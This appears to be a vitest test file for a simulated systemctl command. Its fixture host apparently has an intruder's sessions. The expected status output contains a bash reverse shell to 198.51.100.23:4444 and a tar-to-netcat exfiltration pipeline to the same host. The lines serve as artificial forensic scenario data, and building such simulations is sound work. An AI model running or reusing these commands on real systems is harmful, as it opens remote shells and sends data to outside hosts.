import { describe, expect, it } from 'vitest';
import { systemctlTool } from './systemctl';
import { systemctlWorld } from './systemctl.fixture';

const run = (argv: string[], uid = 0) => systemctlTool.run({
  argv, stdin: '', world: systemctlWorld(), uid, user: uid ? 'deploy' : 'root', cwd: '/', env: new Map(), shellPid: 30000,
});

const OPEN_SCOPE = `● session-5.scope - Session 5 of User deploy
     Loaded: loaded (/run/systemd/transient/session-5.scope; transient)
  Transient: yes
     Active: active (running) since Fri 2026-12-04 13:28:35 UTC; 20s ago
      Tasks: 6
     Memory: 25.9M
        CPU: 0
     CGroup: /user.slice/user-1001.slice/session-5.scope
             ├─22705 "sshd: deploy [priv]"
             ├─22709 "sshd: deploy@pts/0"
             ├─22710 bash -c "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' & sleep 3600"
             ├─22711 bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
             ├─22712 sleep 3600
             └─22713 bash -i
`;

describe('systemctl status PID', () => {
  it('shows the session scope that holds a login shell, numbered as logind logged it', () => {
    expect(run(['systemctl', 'status', '22713'])).toEqual({ stdout: OPEN_SCOPE, stderr: '', exitCode: 0 });
    expect(run(['systemctl', 'status', 'session-5.scope']).stdout).toBe(OPEN_SCOPE);
  });

  it('a logged-out session whose processes remain is abandoned, with systemd\'s line about it', () => {
    expect(run(['systemctl', 'status', '22719']).stdout).toBe(`\
● session-4.scope - Session 4 of User deploy
     Loaded: loaded (/run/systemd/transient/session-4.scope; transient)
  Transient: yes
     Active: active (abandoned) since Fri 2026-12-04 13:18:40 UTC; 10min ago
      Tasks: 2
     Memory: 5.1M
        CPU: 0
     CGroup: /user.slice/user-1001.slice/session-4.scope
             ├─22718 tar czf - /usr/share/doc
             └─22719 nc 198.51.100.23 9001

Dec 04 13:18:40 web01 systemd[1]: Started session-4.scope - Session 4 of User deploy.
`);
  });

  it('a daemon\'s pid shows its service, without the open session\'s sshd processes', () => {
    const r = run(['systemctl', 'status', '22570']);
    expect(r.stdout.split('\n').slice(0, 12)).toEqual([
      '● ssh.service - OpenBSD Secure Shell server',
      '     Loaded: loaded (/usr/lib/systemd/system/ssh.service; disabled; preset: enabled)',
      '     Active: active (running) since Fri 2026-12-04 13:11:52 UTC; 17min ago',
      'TriggeredBy: ● ssh.socket',
      '   Main PID: 22570 (sshd)',
      '      Tasks: 3 (limit: 4693)',
      '     Memory: 19.8M',
      '        CPU: 3.88s',
      '     CGroup: /system.slice/ssh.service',
      '             ├─22570 "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"',
      '             ├─22704 "sshd: deploy [priv]"',
      '             └─22708 "sshd: deploy"',
    ]);
  });

  it('pid 1 is in init.scope: transient, without a path or a main pid line', () => {
    const w = systemctlWorld();
    w.units.push({ name: 'init.scope', description: 'System and Service Manager', path: '', active: 'active', sub: 'running', enabled: 'static', since: w.host.bootTime });
    const r = systemctlTool.run({
      argv: ['systemctl', 'status', '1'], stdin: '', world: w, uid: 0, user: 'root', cwd: '/', env: new Map(), shellPid: 1,
    });
    expect(r.stdout.split('\n').filter((l) => !l.includes('Active:'))).toEqual([
      '● init.scope - System and Service Manager',
      '     Loaded: loaded',
      '  Transient: yes',
      '      Tasks: 1',
      '     Memory: 12.7M',
      '        CPU: 1min 35.37s',
      '     CGroup: /init.scope',
      '             └─1 /sbin/init',
      '',
    ]);
  });

  it('a pid no loaded unit holds is refused as systemctl refuses it', () => {
    expect(run(['systemctl', 'status', '99999'])).toEqual({
      stdout: '', exitCode: 1,
      stderr: 'Failed to get unit for PID 99999: PID 99999 does not belong to any loaded unit.\n',
    });
  });

  it('list-units shows the scopes with their state', () => {
    expect(run(['systemctl', 'list-units', '--type=scope', '--no-legend']).stdout).toBe(`\
  session-4.scope loaded active abandoned Session 4 of User deploy
  session-5.scope loaded active running   Session 5 of User deploy
`);
  });
});
